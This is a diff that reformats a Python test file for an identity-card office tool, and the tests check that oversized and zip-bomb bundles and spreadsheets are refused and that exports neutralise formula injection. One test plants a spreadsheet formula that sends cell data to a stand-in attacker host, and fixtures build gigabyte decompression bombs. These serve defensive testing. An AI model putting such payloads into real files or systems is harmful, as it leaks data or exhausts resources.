@@ -73,8 +73,10 @@ def bombs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     d = tmp_path_factory.mktemp("bombs")
     key = b"K" * 32
     manifest = json.dumps({"format": bundles.FORMAT, "version": 1}).encode() + b"\n"
-    return {"zeros": _signed_bomb(d / "zeros.ikdb", key, manifest, b"\0", 1024 * MB),
-            "lines": _signed_bomb(d / "lines.ikdb", key, manifest, b"{}\n", 300 * MB)}
+    return {
+        "zeros": _signed_bomb(d / "zeros.ikdb", key, manifest, b"\0", 1024 * MB),
+        "lines": _signed_bomb(d / "lines.ikdb", key, manifest, b"{}\n", 300 * MB),
+    }
 
 
 @pytest.fixture
@@ -122,6 +124,7 @@ def test_an_oversized_bundle_file_is_refused_before_reading(tmp_path, office) ->
 
 
 # ---- registry ------------------------------------------------------------------------------
+
 
 def N(i: int) -> str:
     return nikmod.compose("332501", date(1990, 1, 1 + i % 28), "M", 1 + i)
@@ -198,8 +201,9 @@ def test_binary_garbage_is_not_echoed_as_columns(tmp_path, rctx) -> None:
 def test_one_long_cell_in_an_ignored_column_does_not_refuse_the_file(tmp_path, rctx) -> None:
     f = tmp_path / "alamat.csv"
     long_cell = '"' + "Jl. Panjang " * 25_000 + '"'  # 300 kB, quoted: the csv reader's path
-    f.write_text(f"NIK;STATUS IKD;ALAMAT\n{N(1)};SUDAH;{long_cell}\n{N(2)};BELUM;Batang\n",
-                 encoding="utf-8")
+    f.write_text(
+        f"NIK;STATUS IKD;ALAMAT\n{N(1)};SUDAH;{long_cell}\n{N(2)};BELUM;Batang\n", encoding="utf-8"
+    )
     r = registry.import_registry(rctx, f)
     assert (r.read, r.inserted, r.rejected) == (2, 2, 0)
 
@@ -221,16 +225,21 @@ def test_rejects_files_of_csv_and_xlsx_do_not_collide(tmp_path, rctx) -> None:
     assert r1.rejects_file and r2.rejects_file and r1.rejects_file != r2.rejects_file
     for p in (r1.rejects_file, r2.rejects_file):
         assert stat.S_IMODE(os.stat(p).st_mode) == 0o600
-    rows = list(csv.reader(io.StringIO(Path(r1.rejects_file).read_text(encoding="utf-8-sig")),
-                           delimiter=";"))
+    rows = list(
+        csv.reader(
+            io.StringIO(Path(r1.rejects_file).read_text(encoding="utf-8-sig")), delimiter=";"
+        )
+    )
     assert rows[1][1] == "'" + bad  # never a formula when opened in Excel
     assert "123" in Path(r2.rejects_file).read_text(encoding="utf-8-sig")
 
 
 def test_an_xlsx_zip_bomb_is_refused_before_openpyxl(tmp_path, rctx) -> None:
     f = tmp_path / "bomb.xlsx"
-    with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z, \
-            z.open("xl/worksheets/sheet1.xml", "w") as part:
+    with (
+        zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z,
+        z.open("xl/worksheets/sheet1.xml", "w") as part,
+    ):
         block = b"\0" * MB
         for _ in range(64):
             part.write(block)
@@ -263,6 +272,7 @@ def test_the_line_bound_follows_lines_across_chunks() -> None:
 
 # ---- export ---------------------------------------------------------------------------------
 
+
 def test_no_export_cell_is_ever_a_formula(tmp_path, clock) -> None:
     """Every text field in the database holds a formula, the NIK included: the XLSX read back
     has no formula cell, and no CSV cell starts with = + - @ (a phone's + excepted)."""
@@ -277,24 +287,34 @@ def test_no_export_cell_is_ever_a_formula(tmp_path, clock) -> None:
     visits.finish_visit(c, v.id, "PENDING", "server_down", officer_id=sup.id)
     f = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
     with c.db.write() as s:
-        s.execute(text("UPDATE visit SET nik=:f, office_code=:f, counter_id=:f, name=:f, "
-                       "phone='+6281234', ikd_status_found=:f, outcome=:f, reason=:f, note=:f, "
-                       "purpose=:f, district_code=:f"), {"f": f})
+        s.execute(
+            text(
+                "UPDATE visit SET nik=:f, office_code=:f, counter_id=:f, name=:f, "
+                "phone='+6281234', ikd_status_found=:f, outcome=:f, reason=:f, note=:f, "
+                "purpose=:f, district_code=:f"
+            ),
+            {"f": f},
+        )
         s.execute(text("UPDATE officer SET username=:f"), {"f": "-2+3"})
     day = clock.now.date()
-    x = export.export_visits(c, sup, "date", date_from=day, date_to=day, fmt="xlsx",
-                             out=tmp_path / "v.xlsx")
+    x = export.export_visits(
+        c, sup, "date", date_from=day, date_to=day, fmt="xlsx", out=tmp_path / "v.xlsx"
+    )
     wb = openpyxl.load_workbook(x.path)
     cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
     assert [cl.coordinate for cl in cells if cl.data_type == "f"] == []
     texts = [cl.value for cl in cells if isinstance(cl.value, str)]
     assert "'" + f in texts and "'-2+3" in texts and "+6281234" in texts
     for fmt_path in ("v.csv", "v2.csv"):
-        y = export.export_visits(c, sup, "date", date_from=day, date_to=day, fmt="csv",
-                                 out=tmp_path / fmt_path)
-        rows = list(csv.reader(io.StringIO(y.path.read_text(encoding="utf-8-sig")),
-                               delimiter=";"))
-        bad = [cell for row in rows[1:] for cell in row
-               if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "+6281234"]
+        y = export.export_visits(
+            c, sup, "date", date_from=day, date_to=day, fmt="csv", out=tmp_path / fmt_path
+        )
+        rows = list(csv.reader(io.StringIO(y.path.read_text(encoding="utf-8-sig")), delimiter=";"))
+        bad = [
+            cell
+            for row in rows[1:]
+            for cell in row
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "+6281234"
+        ]
         assert bad == [] and "'" + f in rows[1]
     c.db.dispose()
